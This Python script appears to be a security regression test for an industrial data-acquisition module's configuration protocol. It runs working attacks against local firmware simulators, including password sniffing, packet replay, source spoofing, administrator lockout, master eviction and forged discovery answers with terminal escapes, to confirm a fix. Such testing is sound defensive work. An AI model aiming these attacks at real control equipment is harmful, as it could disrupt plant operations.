#!/usr/bin/env python3
"""Issue #20's findings as attacks, with real packets on loopback against the simulated modules
(the host build: the modules' own application over std sockets) and the `remodaq` tool of one
version of this repository.

    attacks.py BIN_DIR [--label NAME]

BIN_DIR holds firmware-8318, firmware-8350 and remodaq of the version under attack. Each
attack prints one line, `attack NAME: succeeded|failed (what was seen)`, then a summary line
`attacks LABEL: N succeeded, N failed`. The attacks speak both versions of the configuration
protocol: 1 (the password in clear, before issue #20) and 2 (challenge and proof), as an
attacker who knows the target's firmware would. scripts/attacks runs them against the commit
before issue #20 and against this one: each must succeed there and fail here.

The board-bound findings (the SYN backlog, updates) are shown under QEMU by tools/qemu-e2e and
by scripts/update-key-check; the remodaq hygiene ones (keygen, strings, search list, net set)
here.
"""

import json
import os
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rdaq import Modbus, allow_body, command, exchange, header, search_raw  # noqa: E402

BIN = sys.argv[1]
LABEL = sys.argv[3] if len(sys.argv) > 3 and sys.argv[2] == "--label" else BIN
TMP = tempfile.mkdtemp(prefix="remodaq-attacks-")
RESULTS = []
NEXT_PORT = [0]


def free_port():
    """A free TCP and UDP port on loopback."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.bind(("127.0.0.1", port))
            return port
        except OSError:
            continue


class Sim:
    """A simulated module of the version under attack."""

    def __init__(self, model):
        self.model = model
        self.modbus = free_port()
        self.disc = free_port()
        self.flash = os.path.join(TMP, f"{model}-{self.modbus}.flash")
        self.log = open(os.path.join(TMP, f"{model}-{self.modbus}.log"), "w")
        self.proc = subprocess.Popen(
            [os.path.join(BIN, f"firmware-{model}"), "--listen", f"127.0.0.1:{self.modbus}",
             "--discovery", f"127.0.0.1:{self.disc}", "--flash", self.flash],
            stdout=self.log, stderr=subprocess.STDOUT)
        for _ in range(100):
            info = search_raw(self.disc)
            if info:
                self.mac = info["mac"]
                self.version = info["proto"]
                return
            time.sleep(0.1)
        raise RuntimeError(f"the {model} simulator did not answer")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()

    def stop(self):
        self.proc.kill()
        self.proc.wait()
        # A restarted simulator is a new process of the same arguments (spawn-and-exit).
        subprocess.run(["pkill", "-f", "--", f"--listen 127.0.0.1:{self.modbus} "], check=False)


def remodaq(*args, env=None, stdin=None):
    e = dict(os.environ)
    e.update(env or {})
    return subprocess.run([os.path.join(BIN, "remodaq"), *args], capture_output=True, text=True, env=e,
                          timeout=60, stdin=stdin)


def set_own_password(sim, password):
    """The administrator sets a password of its own (the parent's minimum length is 4)."""
    mac = ":".join(f"{b:02x}" for b in sim.mac)
    env = {"REMODAQ_PASSWORD": "remodaq", "REMODAQ_NEW_PASSWORD": password}
    args = ["password", "--mac", mac, "--to", f"127.0.0.1:{sim.disc}"]
    if sim.version == 1:
        args += ["--new", password]
    r = remodaq(*args, env=env)
    assert r.returncode == 0, r.stderr


# --- a relay that records what crosses the LAN ----------------------------------------------

class Relay:
    """Stands between the PC and the module, as a sniffer on the LAN sees it all."""

    def __init__(self, target):
        self.target = target
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.up.bind(("127.0.0.1", 0))
        self.captured = []
        self.client = None
        self.running = True
        threading.Thread(target=self.down_loop, daemon=True).start()
        threading.Thread(target=self.up_loop, daemon=True).start()

    def down_loop(self):
        self.sock.settimeout(0.2)
        while self.running:
            try:
                data, self.client = self.sock.recvfrom(1024)
            except socket.timeout:
                continue
            self.captured.append(data)
            self.up.sendto(data, ("127.0.0.1", self.target))

    def up_loop(self):
        self.up.settimeout(0.2)
        while self.running:
            try:
                data = self.up.recv(1024)
            except socket.timeout:
                continue
            if self.client:
                self.sock.sendto(data, self.client)

    def replay(self, opcode):
        """Sends the captured requests of `opcode` again, from another socket (the attacker)."""
        for data in self.captured:
            if data[5] == opcode:
                exchange(data, self.target, timeout=0.5)

    def close(self):
        self.running = False


def mac_text(sim):
    return ":".join(f"{b:02x}" for b in sim.mac)


def stored_port(sim):
    r = remodaq("--json", "--timeout", "0.5", "search", "--to", f"127.0.0.1:{sim.disc}")
    found = json.loads(r.stdout or "[]")
    return found[0]["stored"]["port"] if found else None


# --- the attacks ---------------------------------------------------------------------------

def attack(name):
    def wrap(f):
        def run():
            try:
                succeeded, seen = f()
            except Exception as e:  # an attack that cannot even be tried has failed
                succeeded, seen = False, f"could not be carried out: {e!r}"
            print(f"attack {name}: {'succeeded' if succeeded else 'failed'} ({seen})", flush=True)
            RESULTS.append(succeeded)
        return run
    return wrap


@attack("password-on-the-wire")
def password_on_the_wire():
    """A sniffer reads the configuration password off a SET_NETWORK."""
    sim = Sim(8318)
    relay = Relay(sim.disc)
    try:
        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{relay.port}", "--ip", "192.168.0.1",
                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8000",
                env={"REMODAQ_PASSWORD": "remodaq"})
        seen = any(b"remodaq" in d for d in relay.captured)
        return seen, f"{len(relay.captured)} datagrams captured, the password in them: {seen}"
    finally:
        relay.close()
        sim.stop()


def replay_attack(opcode, before, change, undo, check):
    sim = Sim(8350)
    relay = Relay(sim.disc)
    try:
        before(sim)
        change(sim, relay.port)
        undo(sim)
        relay.replay(opcode)
        time.sleep(0.3)
        return check(sim)
    finally:
        relay.close()
        sim.stop()


@attack("replay-set-network")
def replay_set_network():
    """A captured SET_NETWORK, replayed after the administrator changed the settings again."""
    def change(sim, port):
        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", "--ip", "192.168.0.1",
                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8111",
                env={"REMODAQ_PASSWORD": "remodaq"})

    def undo(sim):
        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}", "--ip", "192.168.0.1",
                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8000",
                env={"REMODAQ_PASSWORD": "remodaq"})

    def check(sim):
        port = stored_port(sim)
        return port == 8111, f"stored Modbus port after the replay: {port} (the administrator's: 8000)"
    return replay_attack(0x02, lambda sim: None, change, undo, check)


@attack("replay-set-access")
def replay_set_access():
    """A captured SET_ACCESS (an allow-list that locks writes to 10.9.9.9), replayed after the
    administrator cleared the list."""
    def before(sim):
        set_own_password(sim, "plant password")

    def change(sim, port):
        remodaq("access", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", "10.9.9.9/32",
                env={"REMODAQ_PASSWORD": "plant password"})

    def undo(sim):
        remodaq("access", "clear", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}",
                env={"REMODAQ_PASSWORD": "plant password"})

    def check(sim):
        m = Modbus(sim.modbus)
        written = m.write(0x100, 1)
        m.close()
        refused = written is not True
        return refused, f"a Modbus write from this PC after the replay: {'refused' if refused else 'allowed'}"
    return replay_attack(0x07, before, change, undo, check)


@attack("replay-restart")
def replay_restart():
    """A captured RESTART, replayed later: the module restarts again."""
    def change(sim, port):
        remodaq("restart", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", env={"REMODAQ_PASSWORD": "remodaq"})
        time.sleep(3)

    def check(sim):
        # A restart takes a moment to begin (the module answers first): watch for 4 s whether
        # the uptime starts again, rather than ask once (a CI run saw the old process answer
        # with 3 s just before it restarted).
        seen = []
        deadline = time.monotonic() + 4
        while time.monotonic() < deadline:
            info = search_raw(sim.disc)
            if info:
                seen.append(info["uptime"])
                if info["uptime"] < 2:
                    break
            time.sleep(0.2)
        restarted = any(up < 2 for up in seen)
        shown = f"{min(seen)} s at the least" if seen else "no answer"
        return restarted, f"uptime after the replay: {shown} (3 s or more if not restarted)"
    return replay_attack(0x03, lambda sim: None, change, lambda sim: None, check)


@attack("factory-password-allow-list")
def factory_password_allow_list():
    """Anyone on the LAN uses the universal factory password to lock the module's writes."""
    with Sim(8350) as sim:
        status = command(sim, 0x07, allow_body([([10, 6, 6, 6], 32)]), "remodaq")
        return status == 0, f"SET_ACCESS with the factory password: status {status}"


@attack("guessing-from-rotating-sources")
def rotating_sources():
    """40 wrong guesses, each from another source address: how many does the module check?"""
    with Sim(8318) as sim:
        # Sources inside the module's subnet (127.0.0.0/24 for the simulator): on loopback the
        # attacker sees the answers, as it does on a LAN for a source outside the module's
        # subnet (answered by broadcast).
        statuses = [command(sim, 0x06, b"", f"guess{i}", src=f"127.0.0.{i + 10}") for i in range(40)]
        checked = statuses.count(1)
        return checked == 40, f"wrong guesses checked: {checked} of 40 (limited: {statuses.count(2)})"


def blind_guess(sim, src):
    """A wrong guess sent with a forged source address: the attacker never sees the answer (it
    goes to the real host), so it cannot ask for a nonce either."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((src, 0))
        if sim.version == 1:
            s.sendto(header(1, 0x06, 9) + sim.mac + bytes([5]) + b"guess", ("127.0.0.1", sim.disc))
        else:
            s.sendto(header(2, 0x06, 9) + sim.mac + os.urandom(64), ("127.0.0.1", sim.disc))


@attack("lock-out-the-administrator")
def lock_out_admin():
    """Wrong guesses forged from the administrator's own address, two a second for 12 s; then the
    administrator's own command with the right password."""
    with Sim(8318) as sim:
        end = time.time() + 12
        while time.time() < end:
            blind_guess(sim, "127.0.0.1")
            time.sleep(0.5)
        status = command(sim, 0x06, b"", "remodaq", src="127.0.0.1")
        return status != 0, f"the administrator's right password: status {status} (0 ok, 2 locked out)"


def allow_only_the_master(sim):
    """The administrator lets only the master (127.0.0.2) write: on this tree after setting a
    password of its own (the allow-list needs one), before issue #20 with the factory one."""
    if sim.version == 2:
        set_own_password(sim, "plant password")
    status = command(sim, 0x07, allow_body([([127, 0, 0, 2], 32)]), "plant password" if sim.version == 2 else "remodaq")
    assert status == 0, f"the allow-list: status {status}"


@attack("evict-the-scada-master")
def evict_master():
    """The master (on the allow-list) polls once a second; 8 chatty connections from elsewhere
    and one more each 0.3 s."""
    with Sim(8350) as sim:
        allow_only_the_master(sim)
        master = Modbus(sim.modbus, "127.0.0.2")
        master.read(0xD2)
        stop = [False]

        def chatty(i):
            try:
                m = Modbus(sim.modbus, f"127.0.1.{i}")
                while not stop[0]:
                    m.read(0xD2)
            except Exception:
                pass
        for i in range(8):
            threading.Thread(target=chatty, args=(i + 1,), daemon=True).start()
        extra = []
        for i in range(15):
            time.sleep(0.3)
            try:
                extra.append(Modbus(sim.modbus, f"127.0.2.{i + 1}"))
            except Exception:
                pass
        try:
            served = master.read(0xD2) is not None
        except Exception:
            served = False
        stop[0] = True
        return not served, f"the master's next poll: {'answered' if served else 'its connection was closed'}"


@attack("watchdog-fed-by-an-outsider")
def watchdog_outsider():
    """The master arms a 0.5 s host watchdog and goes silent; a client outside the allow-list
    keeps reading: do the outputs still reach their safe state?"""
    with Sim(8350) as sim:
        allow_only_the_master(sim)
        master = Modbus(sim.modbus, "127.0.0.2")
        master.write(0x132, 0)
        master.write(0x130, 5)
        outsider = Modbus(sim.modbus, "127.0.0.9")
        tripped = False
        for _ in range(20):
            if outsider.read(0x133) == [1]:
                tripped = True
                break
            time.sleep(0.1)
        return not tripped, f"watchdog {'tripped' if tripped else 'still fed'} after 2 s of the outsider's reads"


@attack("flash-wear")
def flash_wear():
    """300 alternating writes of a persisted register: how many reach the flash?"""
    with Sim(8350) as sim:
        m = Modbus(sim.modbus)
        committed = 0
        for _ in range(300):
            # Always the other value than the one in force: every write is a change to commit.
            now = m.read(0x100)[0]
            if m.write(0x100, now % 2 + 1) is True:
                committed += 1
        return committed == 300, f"{committed} of 300 alternating writes committed"


def fake_module(version, name, stored_ip):
    """A forged module: answers a search with `name` and stored settings `stored_ip`, and
    records every datagram it gets."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    got = []

    def serve():
        s.settimeout(0.2)
        end = time.time() + 20
        while time.time() < end:
            try:
                data, peer = s.recvfrom(1024)
            except socket.timeout:
                continue
            got.append(data)
            if len(data) >= 8 and data[5] == 0x01:
                net = bytes(stored_ip) + bytes([255, 255, 255, 0]) + bytes(4) + struct.pack(">H", 8000)
                info = (header(version, 0x81, struct.unpack(">H", data[6:8])[0]) + b"\x83\x18\xa1\x00"
                        + bytes([2, 9, 9, 9, 9, 9]) + net + net + struct.pack(">I", 5) + bytes([len(name)]) + name)
                info += b"\x00" + (bytes(8) if version == 2 else b"")
                s.sendto(info, peer)
    threading.Thread(target=serve, daemon=True).start()
    return s.getsockname()[1], got


@attack("forged-module-strings")
def forged_strings():
    """A forged module names itself with a terminal escape sequence: does remodaq print it?"""
    version = Sim(8318)
    proto = version.version
    version.stop()
    port, _ = fake_module(proto, b"\x1b]0;pwned\x07\x1b[2J", [192, 168, 0, 9])
    out = remodaq("--timeout", "1", "search", "--to", f"127.0.0.1:{port}").stdout
    raw = "\x1b" in out
    return raw, f"escape characters printed raw: {raw}"


@attack("net-set-from-a-forged-search")
def net_set_forged():
    """`net set --port` fills the other fields from the search answer: a forged answer makes it
    store the attacker's address."""
    version = Sim(8318)
    proto = version.version
    version.stop()
    port, got = fake_module(proto, b"RemoDAQ-8318", [6, 6, 6, 6])
    remodaq("--timeout", "1", "net", "set", "--mac", "02:09:09:09:09:09", "--to", f"127.0.0.1:{port}",
            "--port", "8001", env={"REMODAQ_PASSWORD": "remodaq"})
    sent = any(d[5] == 0x02 and bytes([6, 6, 6, 6]) in d for d in got)
    return sent, f"a SET_NETWORK with the forged address 6.6.6.6 sent: {sent}"


@attack("keygen-world-readable")
def keygen_mode():
    """`remodaq keygen`'s secret key file: can other users read it?"""
    key = os.path.join(TMP, "attack.key")
    remodaq("keygen", key)
    mode = stat.S_IMODE(os.stat(key).st_mode)
    return bool(mode & 0o077), f"secret key mode {mode:o}"


for run in [password_on_the_wire, replay_set_network, replay_set_access, replay_restart, factory_password_allow_list,
            rotating_sources, lock_out_admin, evict_master, watchdog_outsider, flash_wear, forged_strings,
            net_set_forged, keygen_mode]:
    run()
print(f"attacks {LABEL}: {sum(RESULTS)} succeeded, {len(RESULTS) - sum(RESULTS)} failed")
